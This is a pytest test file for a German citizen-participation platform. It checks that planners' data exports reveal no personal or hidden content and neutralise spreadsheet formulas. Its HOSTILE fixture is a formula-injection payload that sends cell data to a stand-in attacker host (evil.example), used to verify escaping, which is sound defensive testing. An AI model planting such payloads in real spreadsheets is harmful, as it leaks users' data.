"""Planners download what was contributed, voted and decided: the files open and say the right
things, hold nothing personal or unpublished, and no cell runs as a formula."""

from __future__ import annotations

import csv
import io
import json

import docx
import openpyxl
import pytest

from participation.accounts.blocking import block_user
from participation.comments.services import add_comment
from participation.drafts import services as drafts
from participation.incorporation import services as incorporation
from participation.proposals import services as proposals
from tests.conftest import Browser, logged_in, queries_for
from tests.drafting import first_paragraph, hide_as_spam, open_phase

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'


@pytest.fixture
def data(db, users, draft):
    open_phase(db, votes=True, comments=True, proposals=True, supports=True)
    planner = users(email="plan@example.org", display_name="Paula Planerin", roles=("participant", "planner"))
    users(email="mod@example.org", display_name="Mona", roles=("participant", "moderator"))
    users(email="admin@example.org", display_name="Ada", roles=("participant", "admin"))
    anna = users(email="anna@example.org", display_name="Anna", stakeholder_group="residents")
    firma = users(email="firma@example.org", display_name="Firma Nord", stakeholder_group="businesses")
    paragraph = first_paragraph(draft)
    accepted = proposals.submit(anna, "WLAN in allen Schulen", "Jede Schule bekommt WLAN.", "education")
    proposals.answer(planner, accepted, "accepted", "Ja, kommt in Kapitel 1.")
    hostile = proposals.submit(firma, HOSTILE, "-1+1 und @mention", "open_data")
    hidden = proposals.submit(anna, "Versteckter Vorschlag", "Wird ausgeblendet.", "education")
    hide_as_spam(_moderator(db), firma, hidden, note="Nennt Telefon 0221-555 von Frau X")
    block_user(_moderator(db), anna_twin(db, users), "Wiederholt beleidigend", None)
    on_hidden = add_comment(firma, "Kommentar unter dem Versteckten", None, proposal=hidden)
    on_hidden.answer_status = "accepted"
    pending = proposals.submit(anna, "Wartender Vorschlag", "Noch nicht frei.", "education", held_because=["first"])
    on_draft = add_comment(firma, "Auch für Berufsschulen", "addition", paragraph.chapter, paragraph)
    on_proposal = add_comment(firma, "Gute Idee", None, proposal=accepted)
    reply = add_comment(anna, "Danke!", None, proposal=accepted, parent=on_proposal)
    drafts.cast_vote(anna, paragraph, 1)
    drafts.cast_vote(firma, paragraph, -1)
    incorporation.incorporate(planner, paragraph, accepted, "full", "Satz 2 neu")
    incorporation.incorporate(planner, paragraph, on_hidden, "partly", "")
    db.session.commit()
    return {
        "accepted": accepted,
        "hostile": hostile,
        "hidden": hidden,
        "pending": pending,
        "on_draft": on_draft,
        "on_proposal": on_proposal,
        "reply": reply,
        "paragraph": paragraph,
    }


def anna_twin(db, users):
    return users(email="twin@example.org", display_name="Zwilling")


def _moderator(db):
    from sqlalchemy import select

    from participation.accounts.models import User

    return db.session.scalar(select(User).where(User.email == "mod@example.org"))


def _workbook(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return openpyxl.load_workbook(io.BytesIO(response.get_data()))


def _values(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _everything(book) -> str:
    return " ".join(str(value) for sheet in book for row in _values(sheet) for value in row if value is not None)


def test_only_planners_and_admins_download(app, data):
    assert Browser(app.test_client()).get("/planning/exports/proposals.csv").status_code == 302
    for email in ("anna@example.org", "mod@example.org"):
        assert logged_in(app, email).get("/planning/exports/proposals.csv").status_code == 403
    for email in ("plan@example.org", "admin@example.org"):
        response = logged_in(app, email).get("/planning/exports/proposals.csv")
        assert response.status_code == 200 and response.get_data().startswith(b"\xef\xbb\xbf")
    planner = logged_in(app, "plan@example.org")
    assert planner.get("/planning/exports/people.csv").status_code == 404
    assert planner.get("/planning/exports/all.csv").status_code == 404  # one CSV holds one kind
    assert planner.get("/planning/exports/proposals.exe").status_code == 404


def test_proposals_as_xlsx_hold_the_public_ones_with_answers_and_where_they_went(app, data):
    book = _workbook(logged_in(app, "plan@example.org").get("/planning/exports/proposals.xlsx"))
    sheet = book["Vorschläge"]
    rows = _values(sheet)
    heading = rows[0]
    assert heading[:3] == ["Nr.", "Titel", "Status"] and sheet.freeze_panes == "A2"
    by_id = {row[0]: dict(zip(heading, row, strict=True)) for row in rows[1:]}
    assert set(by_id) == {data["accepted"].id, data["hostile"].id}  # not the hidden, not the waiting one
    accepted = by_id[data["accepted"].id]
    assert accepted["Status"] == "angenommen" and accepted["Antwort"] == "Ja, kommt in Kapitel 1."
    assert accepted["Kommentare"] == 2 and isinstance(accepted["Unterstützungen"], int)
    assert accepted["Eingeflossen in den Plan"] == "Version 1, 1.1 (vollständig)"
    assert accepted["Autor*in"] == "Anna" and accepted["Gruppe"] == "Einwohner*innen"
    assert accepted["Link"].endswith(f"/proposals/{data['accepted'].id}")
    hostile_cell = sheet.cell(list(by_id).index(data["hostile"].id) + 2, 2)
    assert hostile_cell.value == HOSTILE and hostile_cell.data_type == "s" and hostile_cell.quotePrefix
    assert "@example.org" not in _everything(book)


def test_csv_opens_in_excel_with_umlauts_and_no_formula(app, data):
    response = logged_in(app, "plan@example.org").get("/planning/exports/proposals.csv?topic=open_data")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeffNr.,Titel,Status")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == 2  # the filter leaves the open-data proposal only
    assert rows[1][1] == "'" + HOSTILE
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_comments_say_what_they_are_about_and_their_thread_parent(app, data):
    response = logged_in(app, "plan@example.org").get("/planning/exports/comments.json")
    parsed = json.loads(response.get_data())
    by_id = {row["id"]: row for row in parsed["comments"]}
    assert set(by_id) == {data["on_draft"].id, data["on_proposal"].id, data["reply"].id}
    assert by_id[data["on_draft"].id]["chapter_paragraph"] == "1.1"
    assert by_id[data["on_draft"].id]["kind"] == "Ergänzung"
    assert by_id[data["on_proposal"].id]["proposal"] == data["accepted"].id
    assert by_id[data["reply"].id]["parent"] == data["on_proposal"].id
    assert "@example.org" not in response.get_data(as_text=True)


def test_votes_per_paragraph_overall_and_by_group(app, data):
    book = _workbook(logged_in(app, "plan@example.org").get("/planning/exports/votes.xlsx"))
    rows = _values(book.active)
    heading = rows[0]
    first = next(dict(zip(heading, row, strict=True)) for row in rows[1:] if row[2] == "1.1")
    assert (first["Zustimmung"], first["neutral"], first["Ablehnung"], first["Stimmen"]) == (1, 0, 1, 2)
    assert first["Zustimmung in %"] == 50
    # one voter per group: below MIN_PUBLIC_GROUP_SIZE, so no group's figure is shown, nor "other
    # groups" (two people), nor the empty groups, which would tell the two apart (test_disclosure)
    group_cells = {heading: value for heading, value in first.items() if ": " in heading}
    assert len(group_cells) == 3 * 8 and set(group_cells.values()) == {None}
    only = _workbook(logged_in(app, "plan@example.org").get("/planning/exports/votes.xlsx?group=residents"))
    rows = _values(only.active)
    heading = rows[0]
    assert "Zustimmung: Einwohner*innen" in heading and "Ablehnung: Unternehmen und Start-ups" not in heading
    assert "Ablehnung: weitere Gruppen" not in heading
    chosen = next(dict(zip(heading, row, strict=True)) for row in rows[1:] if row[2] == "1.1")
    assert (chosen["Zustimmung"], chosen["Stimmen"], chosen["Zustimmung: Einwohner*innen"]) == (None, None, None)


@pytest.mark.parametrize("app_config", [{"MIN_PUBLIC_GROUP_SIZE": 1}])
def test_votes_by_group_where_every_group_may_be_shown(app, data):
    book = _workbook(logged_in(app, "plan@example.org").get("/planning/exports/votes.xlsx"))
    rows = _values(book.active)
    first = next(dict(zip(rows[0], row, strict=True)) for row in rows[1:] if row[2] == "1.1")
    assert first["Zustimmung: Einwohner*innen"] == 1 and first["Ablehnung: Unternehmen und Start-ups"] == 1
    assert first["Ablehnung: weitere Gruppen"] == 0


def test_everything_in_one_workbook_a_sheet_per_kind(app, data):
    book = _workbook(logged_in(app, "admin@example.org").get("/planning/exports/all.xlsx"))
    assert book.sheetnames == ["Vorschläge", "Kommentare", "Stimmen je Absatz", "Entscheidungen", "Übernahmen"]
    decisions = _values(book["Entscheidungen"])
    hid = next(row for row in decisions[1:] if row[3] == "Ausgeblendet")
    assert hid[6] == "Spam oder Werbung" and hid[7:10] == [None, None, None]  # the notes stay with admins
    assert hid[10] == 1  # the round its time falls in
    assert not any(row[3] == "Konto gesperrt" for row in decisions[1:])  # decisions about people too
    assert "0221-555" not in _everything(book) and "Wiederholt beleidigend" not in _everything(book)
    assert any(row[3] == "In den Masterplan übernommen" for row in decisions[1:])
    taken = _values(book["Übernahmen"])
    assert len(taken) == 2  # not the comment under the hidden proposal
    assert taken[1][3] == "1.1" and taken[1][5] == data["accepted"].id and taken[1][8] == "vollständig"
    assert "Kommentar unter dem Versteckten" not in _everything(book)
    assert "Versteckter Vorschlag" not in _everything(book) and "Wartender Vorschlag" not in _everything(book)


def test_english_headings_for_an_english_planner(app, db, data):
    from sqlalchemy import select

    from participation.accounts.models import User

    db.session.scalar(select(User).where(User.email == "plan@example.org")).locale = "en"
    db.session.commit()
    text = logged_in(app, "plan@example.org").get("/planning/exports/proposals.csv").get_data().decode()
    assert text.startswith("\ufeffNo.,Title,Status") and "accepted" in text


def test_a_wrong_filter_is_named_at_its_field_and_the_choices_are_kept(app, data):
    planner = logged_in(app, "plan@example.org")
    response = planner.get("/planning/exports/proposals.xlsx?topic=education&group=aliens")
    assert response.status_code == 422 and response.mimetype == "text/html"
    page = response.get_data(as_text=True)
    assert "Bitte wählen Sie eine der angebotenen Möglichkeiten." in page
    assert '<option selected value="education">' in page or 'value="education" selected' in page
    assert planner.get("/planning/exports/?topic=education").status_code == 200


def test_a_version_as_word_and_markdown_with_what_shaped_its_paragraphs(app, data, draft):
    planner = logged_in(app, "plan@example.org")
    page = planner.get("/planning/exports/").get_data(as_text=True)
    assert f'href="/planning/exports/versions/{draft.number}.docx"' in page
    response = planner.get(f"/planning/exports/versions/{draft.number}.docx")
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    word = docx.Document(io.BytesIO(response.get_data()))
    texts = [paragraph.text for paragraph in word.paragraphs]
    headings = [p.text for p in word.paragraphs if p.style.name == "Heading 1"]
    assert headings and headings[0].startswith("1 ")
    assert any(text.startswith("1.1") for text in texts)
    assert any("WLAN in allen Schulen" in text for text in texts)
    assert not any("Versteckter Vorschlag" in text for text in texts)
    markdown = planner.get(f"/planning/exports/versions/{draft.number}.md").get_data(as_text=True)
    assert "**1.1**" in markdown and "Zustimmung 1 · neutral 0 · Ablehnung 1" in markdown
    assert f"/proposals/{data['accepted'].id}" in markdown and "@example.org" not in markdown
    assert planner.get("/planning/exports/versions/99.docx").status_code == 404
    assert planner.get(f"/planning/exports/versions/{draft.number}.pdf").status_code == 404


@pytest.mark.parametrize("kind", ["proposals", "comments", "votes", "decisions", "incorporations"])
def test_every_kind_opens_in_every_format_with_the_same_rows(app, data, kind):
    planner = logged_in(app, "plan@example.org")
    rows = json.loads(planner.get(f"/planning/exports/{kind}.json").get_data())[kind]
    assert rows, kind
    text = planner.get(f"/planning/exports/{kind}.csv").get_data().decode("utf-8")
    read = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    book = _workbook(planner.get(f"/planning/exports/{kind}.xlsx"))
    sheet = _values(book.active)
    assert len(read) == len(sheet) == len(rows) + 1
    assert len(read[0]) == len(sheet[0]) == len(rows[0])  # the same columns everywhere


def test_the_shared_exports_page_shows_a_new_version_at_once(app, db, data, draft):
    planner = logged_in(app, "plan@example.org")
    link = f'href="/planning/exports/versions/{draft.number + 1}.docx"'
    assert link not in planner.get("/planning/exports/").get_data(as_text=True)
    drafts.copy_version(_moderator(db), draft)
    db.session.commit()
    assert link in planner.get("/planning/exports/").get_data(as_text=True)
    assert "Digitale Bildung" in planner.get("/planning/exports/?topic=education").get_data(as_text=True)


def test_the_page_without_filters_loads_no_choices_once_it_is_shared(app, data):
    """Filters are checked against the phases, versions and chapters there are (three queries);
    without any filter there is nothing to check, and the shared page needs none of them."""
    planner = logged_in(app, "plan@example.org")
    for url in ("/planning/exports/", "/planning/exports/?topic=education"):
        planner.get(url)  # made and shared
    plain = queries_for(planner, "/planning/exports/")
    filtered = queries_for(planner, "/planning/exports/?topic=education")
    assert plain <= filtered - 3
    body = planner.get("/planning/exports/").get_data(as_text=True)
    assert "Digitale Bildung" in body and 'href="/planning/exports/versions/1.docx"' in body
